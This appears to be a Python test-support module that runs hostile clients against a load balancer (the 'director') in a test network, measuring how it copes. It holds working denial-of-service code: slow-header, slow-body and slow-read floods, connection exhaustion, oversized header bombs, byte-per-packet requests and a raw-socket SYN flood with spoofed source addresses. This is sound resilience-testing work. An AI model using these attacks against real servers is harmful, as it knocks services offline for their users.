# SPDX-License-Identifier: GPL-2.0
"""What hostile clients do, as a process of its own.

    python3 -m support.attacks NAME

It says that it is under way, goes on until its input ends, and keeps every connection that it may.
Its last line says what came of it: how many connections it tried and had (`attempts`,
`connections`), how many of them the director ended or reset (`ended`, `cut`), how often it could
send something (`sent`), and how many answers it has seen by their status.
"""

import itertools
import json
import os
import random
import re
import select
import selectors
import socket
import struct
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator

from support.pace import PACE
from support.rawtcp_ip import packet, tcp_sum
from support.topology import CLIENT, DIRECTOR, VIP

# How many connections an attacker keeps.
MANY = 500

# How many bytes of a body are promised.
PROMISED = 1_000_000

# How many connections that are not whole yet a listener of the director's holds.
BACKLOG = 4096

HEAD = b"GET /who HTTP/1.1\r\nHost: test\r\n"

Did = Counter[str]

STATUS = re.compile(rb"HTTP/1\.1 (\d{3}) ")


def connect(did: Did) -> socket.socket | None:
    """A connection to the director that never blocks, if there can be one."""
    did["attempts"] += 1
    made = socket.socket()
    made.settimeout(5 * PACE)
    try:
        made.connect((VIP, 80))
        made.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    except OSError:
        made.close()
        return None
    did["connections"] += 1
    made.setblocking(False)
    return made


class Crowd:
    """Many connections, by numbers, and what comes of them. Each begins with a greeting."""

    def __init__(self, did: Did, count: int = 0, greeting: bytes = b"") -> None:
        self.did = did
        self.greeting = greeting
        self.ends: dict[int, socket.socket] = {}
        # How often each has said something.
        self.said: Counter[int] = Counter()
        self.selector = selectors.DefaultSelector()
        for number in range(count):
            self.join(number)

    def join(self, number: int) -> socket.socket | None:
        """One more, or one in the place of another."""
        if made := connect(self.did):
            self.ends[number] = made
            self.selector.register(made, selectors.EVENT_READ, number)
            if self.greeting:
                self.send(number, self.greeting)
        return self.ends.get(number)

    def leave(self, number: int, why: str) -> None:
        """One is over."""
        self.did[why] += 1
        end = self.ends.pop(number)
        self.selector.unregister(end)
        end.close()
        del self.said[number]

    def send(self, number: int, data: bytes) -> None:
        """One says something, by a connection that is made again if it is over."""
        end = self.ends.get(number) or self.join(number)
        if not end:
            return
        try:
            end.send(data)
        except BlockingIOError:
            return
        except OSError:
            self.leave(number, "cut")
            return
        self.said[number] += 1
        self.did["sent"] += 1

    def listen(self) -> None:
        """All take what has come."""
        for key, _ in self.selector.select(0):
            try:
                data = key.fileobj.recv(65536)
            except OSError:
                self.leave(key.data, "cut")
                continue
            if not data:
                self.leave(key.data, "ended")
            self.did.update(status.decode() for status in STATUS.findall(data))


def drip(did: Did, begin: bytes, drop: bytes) -> Iterator[None]:
    """A byte at a time over many connections, after a beginning."""
    crowd = Crowd(did, MANY, begin)
    while True:
        for number in range(MANY):
            crowd.send(number, drop[crowd.said[number] % len(drop) :][:1])
        crowd.listen()
        yield


def slow_head(did: Did) -> Iterator[None]:
    """Heads that never end."""
    return drip(did, HEAD, b"X-Fill: slow\r\n")


def slow_body(did: Did) -> Iterator[None]:
    """Bodies that never end."""
    # One for which its server waits.
    head = b"PUT /cgi/show HTTP/1.1\r\nHost: test\r\nContent-Length: %d\r\n\r\n" % PROMISED
    return drip(did, head, b"y")


def slow_read(did: Did) -> Iterator[None]:
    """Large responses that nobody reads."""
    request = b"GET /1m HTTP/1.1\r\nHost: test\r\n\r\n"
    crowd = Crowd(did, MANY, request)
    while True:
        for number in range(MANY):
            crowd.send(number, request)
            if number % 50 == 0:
                yield


def connections(did: Did) -> Iterator[None]:
    """Connections that ask nothing, ever more, and some that end at once."""
    crowd = Crowd(did, 2 * MANY)
    for turn in itertools.count():
        for number in range(50):
            crowd.join(2 * MANY + 50 * turn + number)
            if short := connect(did):
                short.close()
        crowd.listen()
        if len(crowd.ends) > 20 * MANY:
            for number in list(crowd.ends)[:MANY]:
                crowd.leave(number, "left")
        yield


def bombs(did: Did) -> Iterator[None]:
    """Heads of very many fields, and of very long ones."""
    heads = [
        HEAD + b"".join(b"X-%d: y\r\n" % n for n in range(3000)) + b"\r\n",
        HEAD + b"X-Fill: " + b"y" * 60_000 + b"\r\n\r\n",
        b"GET /" + b"y" * 60_000 + b" HTTP/1.1\r\nHost: test\r\n\r\n",
        HEAD + b"Cookie: " + b"a=b; " * 3000 + b"\r\n\r\n",
    ]
    for head in itertools.cycle(heads):
        did["attempts"] += 1
        try:
            with socket.create_connection((VIP, 80), timeout=5 * PACE) as one:
                one.sendall(head)
                found = STATUS.match(one.recv(65536))
            did[found[1].decode() if found else "ended"] += 1
        except OSError:
            did["cut"] += 1
        yield


def segments(did: Did) -> Iterator[None]:
    """Requests of which each byte is a packet."""
    crowd = Crowd(did, 20)
    request = HEAD + b"\r\n"
    while True:
        for number in range(20):
            crowd.send(number, request[crowd.said[number] % len(request) :][:1])
        crowd.listen()
        yield


def syn(source: str, port: int) -> bytes:
    """A SYN to the director's port 80, with its IPv4 header."""
    addresses = socket.inet_aton(source), socket.inet_aton(VIP)
    first = random.getrandbits(32)

    def tcp(check: int) -> bytes:
        return struct.pack("!HHIIBBHHH", port, 80, first, 0, 5 << 4, 2, 65535, check, 0)

    return packet(*addresses, tcp(tcp_sum(*addresses, tcp(0))))


def syns(did: Did) -> Iterator[None]:
    """SYNs of hosts that do not exist: first as many as there is room for, and more."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.connect((VIP, 0))
    # What answers them vanishes: nobody says that there are no such hosts.
    DIRECTOR.run("ip", "route", "replace", "10.66.0.0/16", "via", "10.0.1.2")
    hosts = [syn(f"10.66.1.{number}", 0) for number in range(100, 250)]
    for turn in itertools.count():
        for _ in range(200 if turn else BACKLOG + MANY):
            one = bytearray(random.choice(hosts))
            port = random.randrange(1024, 65536)
            # The sum has been made without a port.
            (check,) = struct.unpack_from("!H", one, 36)
            total = (check ^ 0xFFFF) + port
            struct.pack_into("!H", one, 20, port)
            struct.pack_into("!H", one, 36, ((total & 0xFFFF) + (total >> 16)) ^ 0xFFFF)
            did["attempts"] += 1
            try:
                raw.send(one)
            except OSError:
                continue
            did["sent"] += 1
        yield


ATTACKS: dict[str, Callable[[Did], Iterator[None]]] = {
    attack.__name__: attack
    for attack in (slow_head, slow_body, slow_read, connections, bombs, segments, syns)
}


def over() -> bool:
    """Whether the input has ended."""
    return bool(select.select([sys.stdin], [], [], 0)[0])


def main() -> None:
    # The machine that all hosts share is not what is attacked.
    os.nice(19)
    did: Did = Counter()
    with CLIENT.entered():
        for turn, _ in enumerate(ATTACKS[sys.argv[1]](did)):
            if turn == 2:
                print("under way", flush=True)
            if over():
                break
            time.sleep(0.005)
    print(json.dumps(did), flush=True)


if __name__ == "__main__":
    main()
